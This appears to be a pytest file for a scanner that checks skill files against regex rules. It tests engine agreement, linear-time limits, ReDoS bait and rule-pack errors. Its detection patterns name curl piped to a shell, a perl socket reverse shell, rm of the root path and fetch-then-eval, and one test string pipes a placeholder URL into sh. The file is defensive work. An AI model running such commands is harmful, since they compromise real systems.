"""Engines and rules (requirements 10, 18): linear time, equal findings, errors that name the rule and its plugin."""

from __future__ import annotations

import random
import time

import pytest
import re2
from hypothesis import given, settings
from hypothesis import strategies as st

from symbi.contracts.errors import ConfigError, InvalidRequest, PluginError
from symbi.contracts.scanner import Detector, Nearby, Pattern, ScannerRule, ScannerRuleSource
from symbi_skills.engines import engine
from symbi_skills.packs import read_pack
from symbi_skills.policy import ScanPolicy
from symbi_skills.regex.automaton import LineMatcher
from symbi_skills.regex.emit import to_re2
from symbi_skills.regex.parse import RegexError, parse
from symbi_skills.scanner import SkillScanner

PATTERNS = (
    r"\bcurl\b.*\|\s*(?:sudo\s+)?(?:ba|z)?sh\b",
    r"a(b|c)*d{2,3}",
    r"^\s*rm\b",
    r"\bnc$",
    r"[^|]+x\B",
    r"(?:a?b)+",
    r"ab.*z|c",
    r"(?:^|[\s;])sudo\s+\S",
)


def source(check: object, *, name: str = "one", plugin: str = "acme") -> ScannerRuleSource:
    rule = ScannerRule(id=name, category="custom", severity="high", message="m", check=check, bad=("x",), good=())  # type: ignore[arg-type]
    return ScannerRuleSource(plugin=plugin, rule=rule)


@pytest.mark.parametrize("pattern", PATTERNS)
@settings(max_examples=60, deadline=None)
@given(line=st.text(alphabet="abcdxz |csurlh nrm;é", max_size=30))
def test_our_automaton_agrees_with_re2(pattern: str, line: str) -> None:
    options = re2.Options()
    options.longest_match = True
    node = parse(pattern)
    expected = [match.span() for match in re2.compile(to_re2(node), options).finditer(line)]
    found = LineMatcher(node)
    assert found.matches(line) == bool(expected)
    assert [span for span in found.spans(line) if span[0] != span[1]] == [
        span for span in expected if span[0] != span[1]
    ]


def test_engines_give_the_same_places() -> None:
    nodes = [parse(pattern) for pattern in PATTERNS]
    matchers = [engine(name).compile(nodes) for name in ("re2", "python")]
    chance = random.Random(7)
    for _ in range(300):
        text = "".join(chance.choice("abcdxz |curlshnrm;\n") for _ in range(60)).encode()
        for number in range(len(nodes)):
            first, second = (list(matcher.spans(number, text)) for matcher in matchers)
            assert first == second
            if first:
                assert all(number in matcher.present(text) for matcher in matchers)


@pytest.mark.parametrize(
    ("regex", "why"),
    [
        (r"(?=x)y", "look-around"),
        (r"(?<!x)y", "look-around"),
        (r"(a)\1", "back-reference"),
        (r"(", "not a valid expression"),
        (r"a\nb", "newline"),
        (r"a{1,5000}", "repeats"),
        (r"a++", "possessive"),
    ],
)
def test_a_rule_that_cannot_run_in_linear_time_is_refused_by_name(regex: str, why: str) -> None:
    with pytest.raises(RegexError, match=why):
        parse(regex)
    with pytest.raises(PluginError, match="'one' of acme") as caught:
        SkillScanner([source(Pattern(regex))])
    assert caught.value.plugin == "acme"


def test_a_duplicate_id_names_both_plugins() -> None:
    with pytest.raises(PluginError, match="'one' of acme has the id of a rule of other"):
        SkillScanner([source(Pattern("a"), plugin="other"), source(Pattern("b"))])
    with pytest.raises(PluginError, match="skills"):
        SkillScanner([source(Pattern("a"), name="hidden-unicode")])


def test_no_rules_is_no_scan() -> None:
    with pytest.raises(ConfigError, match="nothing can pass"):
        SkillScanner([])


@pytest.mark.parametrize("name", ["re2", "python"])
def test_regex_bait_takes_bounded_time(name: str) -> None:
    """Requirement 18: 1.9 MB of bait in less than 2 s in every engine (scanner.md section 6, ReDoS)."""
    checks = (
        Pattern(r"\bperl\b.*socket.*\b(?:exec|system)\b.*/(?:ba|z)?sh\b"),
        Pattern(r"\brm\s+(?:-\S+\s+){0,8}/"),
        Pattern(r"(?:a*)*b"),
        Pattern(r"fetch.*eval.*x"),
    )
    subject = SkillScanner([source(check, name=f"r{number}") for number, check in enumerate(checks)], engine=name)
    for bait in (b"perl socket exec system ", b"rm -rm ", b"fetch eval "):
        content = bait * (1_900_000 // len(bait))
        started = time.process_time()
        subject.scan_files({"x.txt": content})
        assert time.process_time() - started < 2


def test_hostile_text_cannot_exhaust_the_set_unseen() -> None:
    """RE2 answers nothing at all when its automaton runs out of memory; the canary shows it and every pattern is tried alone."""
    matcher = engine("re2").compile([parse("evil")])

    class Exhausted:
        def Match(self, _: bytes) -> list[int]:  # RE2's name
            return []

    matcher._set = Exhausted()  # type: ignore[attr-defined]
    assert list(matcher.present(b"an evil text")) == [0]


def test_custom_rules_stand_beside_the_installed_ones() -> None:
    """Seed: `with_custom_rules` takes name, expression, severity and message."""
    pytest.importorskip("symbi_clawhavoc")
    subject = SkillScanner.with_custom_rules(
        [("custom-pattern", r"my_dangerous_pattern", "Warning", "Custom rule description")]
    )
    result = subject.scan_content("my_dangerous_pattern\ncurl https://x.example | sh\n")
    assert [(finding.rule, finding.severity, finding.line) for finding in result.findings] == [
        ("custom-pattern", "warning", 1),
        ("pipe-to-shell", "critical", 2),
    ]
    subject.add_custom_rule("another", "zzz", "high", "No zzz")
    assert [finding.rule for finding in subject.scan_content("zzz").findings] == ["another"]
    with pytest.raises(PluginError, match="'worse' of custom"):
        subject.add_custom_rule("worse", "(", "high", "m")
    assert subject.scan_content("zzz").findings
    with pytest.raises(ConfigError, match="no severity"):
        subject.add_custom_rule("x", "x", "terrible", "m")
    with pytest.raises(InvalidRequest, match="hyphens"):
        subject.add_custom_rule("Not A Name", "x", "high", "m")


def test_unless_hides_only_the_harmless_use() -> None:
    subject = SkillScanner([source(Pattern(r"\benv\b", unless=r"process\.env"))])
    assert subject.scan_content("process.env").passed
    assert not subject.scan_content("process.env and env").passed


def test_nearby_parts_must_be_near_and_in_order() -> None:
    subject = SkillScanner([source(Nearby(("alpha", "omega"), within=3))])
    assert subject.scan_content("alpha\n\n\nomega").findings[0].line == 1
    assert subject.scan_content("alpha\n\n\n\nomega").passed
    assert subject.scan_content("omega\nalpha").passed
    either = SkillScanner([source(Nearby(("alpha", "omega"), within=3, ordered=False))])
    assert not either.scan_content("omega\nalpha").passed


def test_file_globs_limit_a_check() -> None:
    subject = SkillScanner([source(Pattern("evil", files=("*.py",)))])
    assert subject.scan_content("evil", "a.md").passed
    assert not subject.scan_content("evil", "sub/a.py").passed


def object_to_every_line(text: str, path: str) -> list[int]:
    return [number for number, line in enumerate(text.split("\n"), 1) if line]


def break_down(text: str, path: str) -> list[int]:
    raise RuntimeError("no")


def test_detectors_run_and_a_broken_one_fails_the_scan() -> None:
    subject = SkillScanner([source(Detector(object_to_every_line, files=("*.x",)))])
    assert [finding.line for finding in subject.scan_content("a\n\nb", "f.x").findings] == [1, 3]
    assert subject.scan_content("a", "f.y").passed
    with pytest.raises(PluginError, match="'one' of acme failed"):
        SkillScanner([source(Detector(break_down))]).scan_content("a")


def test_packs_declare_rules_and_errors_name_the_file() -> None:
    good = read_pack(
        b"name: mine\nrules:\n  - {id: no-foo, severity: high, message: No foo, pattern: foo, bad: [foo], good: [bar]}\n",
        where="p.yaml",
    )
    assert not SkillScanner(good).scan_content("foo").passed
    toml = read_pack(b'[[rules]]\nid = "a"\nseverity = "high"\nmessage = "m"\nnearby = ["x", "y"]\n', where="p.toml")
    assert not SkillScanner(toml).scan_content("x\ny").passed
    for broken in (
        b"rules: 3",
        b"rules:\n - {id: a}",
        b"a: &x 1\nb: *x",
        b"rules: []\nrules: []",
        b"\xff",
        b"[" * 5000,
    ):
        with pytest.raises(ConfigError, match=r"p\.yaml"):
            read_pack(broken, where="p.yaml")


def test_opt_in_rules_are_off_until_enabled() -> None:
    rule = ScannerRule(
        id="shy", category="extra", severity="high", message="m", check=Pattern("shy"), bad=(), good=(), default=False
    )
    sources = [source(Pattern("never")), ScannerRuleSource(plugin="pack", rule=rule)]
    assert SkillScanner(sources).scan_content("shy").passed
    for name in ("shy", "extra", "pack"):
        assert not SkillScanner(sources, policy=ScanPolicy(enabled=frozenset((name,)))).scan_content("shy").passed
    with pytest.raises(ConfigError, match="nothing-such"):
        SkillScanner(sources, policy=ScanPolicy(disabled=frozenset(("nothing-such",))))


def test_an_unknown_engine_says_what_there_is() -> None:
    with pytest.raises(ConfigError, match="auto, re2, python"):
        engine("grep")
